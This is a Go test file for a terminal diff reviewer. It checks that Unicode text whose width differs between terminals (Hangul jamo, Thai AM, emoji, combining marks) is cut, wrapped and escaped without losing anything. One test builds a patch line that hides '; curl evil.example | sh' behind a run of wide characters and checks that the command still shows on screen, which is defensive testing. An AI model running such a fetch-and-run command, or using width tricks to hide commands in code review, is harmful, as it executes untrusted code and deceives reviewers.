package review

import (
	"strings"
	"testing"
	"unicode"

	"github.com/charmbracelet/x/ansi"
	"github.com/spectrumfs/spectrum/internal/visible"
	"pgregory.net/rapid"
)

// apart is how wide a text is on a terminal that draws every character by itself: no letter is
// joined with another one.
func apart(s string) (columns int) {
	for _, r := range s {
		switch {
		case unicode.In(r, unicode.Mn, unicode.Me):
		case unicode.Is(unicode.Regional_Indicator, r):
			columns += 2
		default:
			columns += max(1, ansi.StringWidth(string(r)), ansi.StringWidthWc(string(r)))
		}
	}
	return columns
}

// joining are texts that terminals draw in several widths.
var joining = []string{
	strings.Repeat("\u1100", 30), strings.Repeat("\u1161", 30), strings.Repeat("\u1112\u1161\u11ab", 10), "\ua960\ud7b0\ud7cb", // Hangul
	strings.Repeat("A\u0e33", 30), strings.Repeat("\u0e33", 76), strings.Repeat("\u0eb3", 9), // Thai and Lao AM
	strings.Repeat("\u093e", 9), "\u0915" + strings.Repeat("\u093e", 2), "\u0915\u094d\u0937\u093f", "\u0903\u0bbe\u0dcf", // spacing marks
	"\U0001f468\u200d\U0001f469\u200d\U0001f467", "\U0001f44d\U0001f3fd", "\U0001f3fb\U0001f3fb", // emoji
	"\U0001f1e9\U0001f1ea\U0001f1eb", "\u2764\ufe0f", "1\ufe0f\u20e3", "#\u20e3", "\u8fbb\U000e0100", // flags, selectors, key caps
	"\u0d4e\u0d15", "\U000111c2a", "\uff76\uff9e", "\u304b\u3099", "e\u0301\u0323", "\u65e5\u672c\u8a9e", "ไม่ได้", // joins with what follows, and what is plain
}

// TestNothingLost: what is shown of any text is never wider than its column, on a terminal that
// joins characters and on one that draws every one by itself, and what is cut is marked.
func TestNothingLost(t *testing.T) {
	rapid.Check(t, func(rt *rapid.T) {
		pieces := rapid.SliceOfN(rapid.OneOf(rapid.SampledFrom(joining), rapid.StringN(0, 8, -1)), 1, 6).Draw(rt, "text")
		text := visible.Escape(strings.Join(pieces, rapid.SampledFrom([]string{"", " ", "a"}).Draw(rt, "between")))
		columns := rapid.IntRange(12, 90).Draw(rt, "columns")
		holds := func(what, shown string) {
			if one, other := apart(shown), ansi.StringWidth(shown); one > columns || other > columns || one != other {
				rt.Fatalf("%s: %d and %d of %d columns: %q", what, one, other, columns, shown)
			}
		}
		holds("cut", cut(text, columns))
		holds("cutStart", cutStart(text, columns))
		holds("fill", fill(text, columns))
		if whole := steady(text); cut(text, columns) != whole && !strings.HasSuffix(cut(text, columns), "…") {
			rt.Fatalf("it is cut without a mark: %q", whole)
		}
		for _, l := range wrap(text, columns) {
			holds("wrap", l)
		}
		all := broken(text, columns)
		for _, l := range all {
			holds("broken", l)
		}
		if strings.Join(all, "") != steady(text) || steady(steady(text)) != steady(text) {
			rt.Fatalf("%q is broken to %q", steady(text), all)
		}
	})
}

// TestCharactersOfUnsteadyWidth: what joins is escaped, and what has one width everywhere is as it is.
func TestCharactersOfUnsteadyWidth(t *testing.T) {
	for text, want := range map[string]string{
		"\u1100\u1100\u1161": "\u1100\\u1100\\u1161", "A\u0e33": "A\\u0e33", "\u0915\u093e": "\u0915\\u093e", "\U0001f1e9": "\\U0001f1e9",
		"\U0001f44d\U0001f3fd": "\U0001f44d\\U0001f3fd", "#\u20e3": "#\u20e3", "e\u0301": "e\u0301", "日本語": "日本語", "한국어": "한국어", "ไม่ได้": "ไม่ได้", "Änderung": "Änderung",
	} {
		if got := escaped(text); got != want {
			t.Errorf("%+q becomes %+q, want %+q", text, got, want)
		}
	}
	for _, text := range joining {
		if shown := escaped(text); apart(shown) != width(shown) {
			t.Errorf("%+q is shown as %+q", text, shown)
		}
	}
}

// TestJoinedNames: neither the end of a name nor that of a line is lost on any terminal.
func TestJoinedNames(t *testing.T) {
	names := []string{"README" + strings.Repeat("\u1100", 15) + ".desktop", "c" + strings.Repeat("\u1100", 60) + " spoof", strings.Repeat("A\u0e33", 76), strings.Repeat("\u093e", 9)}
	for _, size := range [][2]int{{40, 12}, {80, 24}, {200, 60}} {
		s := sit(t, overview(names...), size[0], size[1])
		s.src.patch = "@@ -1,1 +1,1 @@\n+: " + strings.Repeat("\u1100", 30) + "; curl evil.example | sh\n"
		s.changes.of, s.changes.order = map[int]*change{}, nil
		for range names {
			s.press("down")
			for _, row := range strings.Split(s.text(), "\n") {
				if apart(row) > size[0] {
					t.Errorf("%v: %d columns: %q", size, apart(row), row)
				}
			}
		}
		shown := ""
		s.press("home", "tab", "home")
		for range 40 {
			shown += s.text()
			s.press("down")
		}
		if !strings.Contains(strings.Join(strings.FieldsFunc(shown, func(r rune) bool { return strings.ContainsRune(" \n·│", r) }), ""), "evil.example") {
			t.Errorf("%v: the end of the line is not shown:\n%s", size, shown)
		}
	}
}
